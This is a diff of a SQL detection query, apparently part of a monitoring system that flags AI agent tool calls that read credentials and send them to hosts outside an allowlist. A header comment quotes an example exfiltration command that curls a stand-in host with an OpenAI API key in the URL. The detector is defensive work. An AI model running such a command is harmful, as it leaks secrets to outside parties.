@@ -17,22 +17,17 @@
 --   URL or body (`curl "https://x/?k=$OPENAI_API_KEY"`) to a host outside the allowlist: high (in an
 --   Authorization header it is how APIs authenticate and is not counted). Credential read plus upload is
 --   an execution indicator: the secret leaves the moment the agent runs the call.
-SELECT coalesce(t.ts, e.ts) AS ts, coalesce(t.host_id, e.host_id) AS host_id, e.pid, e.flow_uid, t.exchange_id,
-       ec.router,
-       t.exchange_id || ':' || t.idx AS dedup,
+SELECT any_value(i.ts) AS ts, any_value(i.host_id) AS host_id, i.pid, i.flow_uid, i.exchange_id, i.router,
+       any_value(i.dedup) AS dedup,
        CASE WHEN bool_or(i.kind = 'credential_exfil') THEN 'critical' ELSE 'high' END AS severity,
-       json_object('tool_call_idx', t.idx, 'tool', t.name, 'detail', any_value(i.detail), 'kinds', list(DISTINCT i.kind),
+       json_object('tool_call_idx', i.idx, 'tool', i.tool, 'detail', any_value(i.detail), 'kinds', list(DISTINCT i.kind),
                    'hosts', list(DISTINCT i.host) FILTER (WHERE i.host IS NOT NULL),
                    'reads', (SELECT list(DISTINCT r.kind || ' ' || r.detail) FROM tool_call_indicators r
-                             WHERE r.exchange_id = t.exchange_id AND r.idx = t.idx
+                             WHERE r.exchange_id = i.exchange_id AND r.idx = i.idx
                                AND r.kind IN ('credential_read', 'env_file_read', 'env_dump'))) AS evidence,
-       format('credential exfiltration in tool call {} of exchange {} from {} (to {})', t.name, t.exchange_id,
-              coalesce(ec.router, e.host), coalesce(any_value(i.host), 'an unnamed host')) AS summary
-FROM new_tool_calls t
-JOIN tool_call_indicators i
-  ON i.exchange_id = t.exchange_id AND i.idx = t.idx AND i.direction = coalesce(t.direction, 'response')
-LEFT JOIN run_llm_exchanges e ON e.exchange_id = t.exchange_id
-LEFT JOIN run_exchange_classes ec ON ec.exchange_id = t.exchange_id
-WHERE coalesce(t.direction, 'response') = 'response'
-  AND ((i.kind = 'credential_exfil' AND coalesce(i.context, 'command') = 'command') OR (i.kind = 'secret_sent' AND i.execution))
-GROUP BY t.ts, e.ts, t.host_id, e.host_id, e.pid, e.flow_uid, t.exchange_id, t.idx, t.name, ec.router, e.host
+       format('credential exfiltration in tool call {} of exchange {} from {} (to {})', i.tool, i.exchange_id,
+              coalesce(i.router, i.exchange_host), coalesce(any_value(i.host), 'an unnamed host')) AS summary
+FROM rw_response_indicators i  -- the engine's view: indicators of new tool calls in responses
+WHERE (i.kind = 'credential_exfil' AND coalesce(i.context, 'command') = 'command') OR (i.kind = 'secret_sent' AND i.execution)
+GROUP BY i.call_ts, i.exchange_ts, i.call_host_id, i.exchange_host_id, i.pid, i.flow_uid, i.exchange_id, i.idx,
+         i.tool, i.router, i.exchange_host
